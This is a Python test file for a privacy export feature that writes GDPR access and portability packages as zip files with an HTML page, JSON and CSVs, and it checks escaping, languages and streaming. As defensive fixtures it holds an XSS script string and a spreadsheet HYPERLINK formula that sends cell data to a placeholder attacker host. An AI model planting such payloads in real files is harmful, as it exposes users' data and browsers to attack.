"""Access and portability packages: the zip, its files, escaping, languages and streaming."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import tempfile
import tracemalloc
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest

from exports.packages import CSV_COLUMNS, FILES, PackageContent, csv_cell, write_package
from privacy.crypto.sealed_files import SealedWriter, new_file_key, open_sealed

GENERATED = dt.datetime(2026, 5, 4, 9, 30, tzinfo=dt.UTC)
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klicka")'
REQUEST = {"id": "7f0c4a1e-0000-4000-8000-000000000001", "type": "access",
           "received_at": "2026-05-01T08:00:00+00:00", "due_at": "2026-05-31T08:00:00+00:00"}


def _event(seq: int) -> dict[str, Any]:
    return {"seq": seq, "purpose": "marketing_email", "action": "granted" if seq % 2 else "withdrawn",
            "status": "granted" if seq % 2 else "withdrawn", "notice_version": "2026-11-01",
            "text_hash": f"{seq:064x}", "source": {"channel": "web", "form": "signup"},
            "recorded_at": f"2026-01-01T10:{seq % 60:02d}:00+00:00"}


def _data(history: Any = None) -> dict[str, Any]:
    return {
        "subject": {"subject_id": "5b1e0c2a-0000-4000-8000-000000000002", "fields": [
            {"name": "first_name", "category": "identity", "value": "Åsa", "purposes": ["loyalty_club"],
             "source": "signup"},
            {"name": "last_name", "category": "identity", "value": SCRIPT, "purposes": ["loyalty_club"],
             "source": "signup"},
            {"name": "postal_code", "category": "location", "value": FORMULA,
             "purposes": ["loyalty_club", "profiling"], "source": "kundtjänst"},
        ]},
        "consents": [{"purpose": "marketing_email", "status": "granted", "notice_version": "2026-11-01",
                      "recorded_at": "2026-01-01T10:01:00+00:00", "granted_at": "2026-01-01T10:01:00+00:00"}],
        "consent_history": [_event(1), _event(2), _event(3)] if history is None else history,
        "requests": [{"id": REQUEST["id"], "type": "access", "status": "in_progress",
                      "received_at": REQUEST["received_at"], "due_at": REQUEST["due_at"], "completed_at": None}],
        "purposes": [
            {"code": "loyalty_club", "name": {"sv": "Medlemskap i kundklubben", "en": "Loyalty club membership"},
             "legal_basis": "contract", "fields": ["email", "first_name"], "recipients": ["Exempelbutiken AB"],
             "retention": {"period_days": 730, "after": "last_activity", "action": "anonymise"},
             "notice_version": "2026-11-01"},
            {"code": "marketing_email", "name": {"sv": "Erbjudanden via e-post", "en": "Offers by e-mail"},
             "legal_basis": "consent", "fields": ["email"], "recipients": [], "retention": None,
             "notice_version": "2026-11-01"},
        ],
        "recipients": ["Exempelbutiken AB", "E-posttjänst (personuppgiftsbiträde)"],
        "retention": [{"purpose": "loyalty_club", "period_days": 730, "after": "last_activity",
                       "action": "anonymise"}],
        "sources": ["Du själv (registreringsformulär)"],
        "systems": {"crm": {"found": True, "records": [{"name": "Åsa Öberg", "note": SCRIPT}]}},
    }


def _content(kind: str = "access", language: str = "sv", history: Any = None) -> PackageContent:
    return PackageContent(kind=kind, language=language, generated_at=GENERATED, request=dict(REQUEST),
                          data=_data(history))


def _package(content: PackageContent) -> zipfile.ZipFile:
    out = io.BytesIO()
    write_package(out, content)
    return zipfile.ZipFile(io.BytesIO(out.getvalue()))


def _csv(zf: zipfile.ZipFile, name: str) -> list[list[str]]:
    raw = zf.read(name)
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))


def test_a_package_holds_the_page_the_json_and_one_csv_per_category() -> None:
    zf = _package(_content())
    assert zf.namelist() == list(FILES)
    assert set(FILES) == {"index.html", "data.json", "subject.csv", "consents.csv", "consent_history.csv",
                          "requests.csv", "purposes.csv"}
    assert zf.testzip() is None
    assert all(info.compress_type == zipfile.ZIP_DEFLATED for info in zf.infolist())


def test_data_json_is_the_input_under_a_format_header() -> None:
    content = _content()
    document = json.loads(_package(content).read("data.json").decode("utf-8"))
    assert document == {"format": "privacy-access-package/1", "kind": "access",
                        "generated_at": "2026-05-04T09:30:00+00:00", "request": REQUEST, **_data()}
    assert list(document)[:4] == ["format", "kind", "generated_at", "request"]


def test_data_json_keeps_nordic_letters_readable() -> None:
    raw = _package(_content()).read("data.json")
    assert "Åsa".encode() in raw
    assert "kundtjänst".encode() in raw


def test_every_csv_parses_with_its_header_and_rows() -> None:
    zf = _package(_content())
    for name, columns in CSV_COLUMNS.items():
        assert _csv(zf, name)[0] == list(columns)
    subject = _csv(zf, "subject.csv")
    assert subject[1] == ["first_name", "identity", "Åsa", "loyalty_club", "signup", ""]  # no label given
    assert subject[2][2] == SCRIPT
    assert subject[3][3] == "loyalty_club;profiling"
    assert _csv(zf, "consents.csv")[1:] == [["marketing_email", "granted", "2026-11-01",
                                            "2026-01-01T10:01:00+00:00", "2026-01-01T10:01:00+00:00"]]
    history = _csv(zf, "consent_history.csv")
    assert [row[0] for row in history[1:]] == ["1", "2", "3"]
    assert history[1][6] == '{"channel":"web","form":"signup"}'
    assert _csv(zf, "requests.csv")[1] == [REQUEST["id"], "access", "in_progress", REQUEST["received_at"],
                                           REQUEST["due_at"], ""]
    assert _csv(zf, "purposes.csv")[1:] == [
        ["loyalty_club", "Medlemskap i kundklubben", "contract", "email;first_name", "Exempelbutiken AB", "730",
         "last_activity", "anonymise"],
        ["marketing_email", "Erbjudanden via e-post", "consent", "email", "", "", "", ""],
    ]


def test_csv_rows_end_in_crlf_and_quote_as_rfc_4180_says() -> None:
    content = _content()
    content.data["subject"]["fields"][0]["value"] = 'Åsa "Sassa", Öberg\nrad två'
    zf = _package(content)
    raw = zf.read("subject.csv").decode("utf-8-sig")
    assert raw.startswith("name,category,value,purposes,source,label\r\n")
    assert '"Åsa ""Sassa"", Öberg\nrad två"' in raw
    assert _csv(zf, "subject.csv")[1][2] == 'Åsa "Sassa", Öberg\nrad två'


def test_a_value_a_spreadsheet_would_run_as_a_formula_is_defused() -> None:
    assert _csv(_package(_content()), "subject.csv")[3][2] == "'" + FORMULA
    for dangerous in ("=1+1", "+46701234567", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(dangerous) == "'" + dangerous
    assert csv_cell(["=cmd", "ok"]) == "'=cmd;ok"
    assert csv_cell("Åsa = Åsa") == "Åsa = Åsa"
    assert csv_cell(-5) == "-5"  # a number is never a formula
    assert csv_cell(None) == ""


def test_the_page_is_swedish_for_sv_and_shows_values_as_text() -> None:
    html = _package(_content(language="sv")).read("index.html").decode("utf-8")
    assert '<html lang="sv">' in html
    for heading in ("Dina personuppgifter", "Dina samtycken", "Samtyckeshistorik", "Dina begäranden",
                    "Varför vi behandlar dina uppgifter", "Mottagare", "Hur länge vi sparar uppgifterna",
                    "Varifrån uppgifterna kommer", "Anslutna system", "data.json"):
        assert heading in html
    assert "artikel 15" in html
    assert "avtal" in html and "samtycke" in html  # the legal bases in words
    assert "Medlemskap i kundklubben" in html and "Åsa" in html
    assert SCRIPT not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script" not in html
    assert "crm" in html and "Åsa Öberg" in html
    assert "http://" not in html.replace("http://evil.example", "") and "<link" not in html  # self-contained


def test_the_page_is_english_for_en_and_for_an_unknown_language() -> None:
    for language in ("en", "de", ""):
        html = _package(_content(language=language)).read("index.html").decode("utf-8")
        assert '<html lang="en">' in html
        assert "Your personal data" in html and "Why we process your data" in html
        assert "Article 15" in html and "legitimate" not in html and "contract" in html
        assert "Loyalty club membership" in html
        assert "Dina samtycken" not in html


def test_a_portability_package_says_so_in_its_introduction() -> None:
    access = _package(_content(kind="access")).read("index.html").decode("utf-8")
    portability = _package(_content(kind="portability")).read("index.html").decode("utf-8")
    assert "artikel 20" in portability and "dataportabilitet" in portability
    assert "rätten till tillgång" in access and "rätten till tillgång" not in portability
    assert json.loads(_package(_content(kind="portability")).read("data.json"))["kind"] == "portability"


def test_an_unknown_kind_is_refused() -> None:
    with pytest.raises(ValueError, match="kind"):
        _content(kind="erasure")


def test_an_empty_package_still_has_every_file() -> None:
    content = PackageContent(kind="access", language="sv", generated_at=GENERATED, request=dict(REQUEST), data={
        "subject": {"subject_id": "x", "fields": []}, "consents": [], "consent_history": [], "requests": [],
        "purposes": [], "recipients": [], "retention": [], "sources": [], "systems": {}})
    zf = _package(content)
    assert zf.namelist() == list(FILES)
    assert json.loads(zf.read("data.json"))["consent_history"] == []
    assert _csv(zf, "consent_history.csv") == [list(CSV_COLUMNS["consent_history.csv"])]
    assert "Inga uppgifter." in zf.read("index.html").decode()


def test_a_package_sealed_at_rest_opens_to_the_same_zip() -> None:
    key, sealed = new_file_key(), io.BytesIO()
    with SealedWriter(sealed, key, "package|r1") as writer:
        write_package(writer, _content())
    assert "Åsa".encode() not in sealed.getvalue()
    plain = b"".join(open_sealed(io.BytesIO(sealed.getvalue()), key, "package|r1"))
    opened, direct = zipfile.ZipFile(io.BytesIO(plain)), _package(_content())
    assert opened.testzip() is None
    assert opened.namelist() == direct.namelist()
    for name in direct.namelist():
        assert opened.read(name) == direct.read(name)


def test_a_one_shot_history_is_consumed_once_and_lands_in_every_file() -> None:
    pulled = []

    def events() -> Iterator[dict[str, Any]]:
        for seq in range(1, 6):
            pulled.append(seq)
            yield _event(seq)

    zf = _package(_content(history=events()))
    assert pulled == [1, 2, 3, 4, 5]
    assert json.loads(zf.read("data.json"))["consent_history"] == [_event(seq) for seq in range(1, 6)]
    assert len(_csv(zf, "consent_history.csv")) == 6
    assert zf.read("index.html").decode().count(f"{5:064x}") == 1


class _LongHistory:
    """A consent history made on the fly, like rows streamed from the ledger."""

    def __init__(self, count: int) -> None:
        self.count = count

    def __iter__(self) -> Iterator[dict[str, Any]]:
        return (_event(seq) for seq in range(1, self.count + 1))


def test_a_long_history_is_written_in_flat_memory() -> None:
    write_package(io.BytesIO(), _content(history=_LongHistory(10)))  # warm up: template, imports
    count = 20_000  # ~5 MB of data.json; tracemalloc makes every allocation slow, so not more
    with tempfile.TemporaryFile() as out:
        tracemalloc.start()
        try:
            write_package(out, _content(history=_LongHistory(count)))
            _current, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        out.seek(0)
        with zipfile.ZipFile(out) as zf:
            size = zf.getinfo("data.json").file_size
            with zf.open("consent_history.csv") as raw:
                rows = sum(1 for _ in io.TextIOWrapper(raw, encoding="utf-8-sig", newline=""))
    assert size > 4_000_000
    assert rows == count + 1
    assert peak < size / 4, f"peak {peak} bytes for a data.json of {size} bytes"


def test_a_lone_surrogate_from_a_connected_system_does_not_stop_the_package() -> None:
    broken = json.loads('"Åsa \\ud800"')  # valid JSON, not valid UTF-8
    event = {**_event(1), "source": {"channel": broken}}
    content = _content(history=iter([event]))
    content.data["systems"] = {"crm": {"name": broken}}
    zf = _package(content)
    document = json.loads(zf.read("data.json"))
    assert document["systems"]["crm"]["name"] == broken
    assert document["consent_history"] == [event]
    assert "Åsa" in zf.read("index.html").decode()
    assert _csv(zf, "consent_history.csv")[1][6].startswith('{"channel":"Åsa ')


def test_the_history_rows_are_escaped_too() -> None:
    event = {**_event(1), "notice_version": SCRIPT, "source": {"form": "<b>x</b>"}}
    html = _package(_content(history=iter([event]))).read("index.html").decode()
    assert SCRIPT not in html and "<b>" not in html
    assert "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>" in html
    assert "form: &lt;b&gt;x&lt;/b&gt;" in html
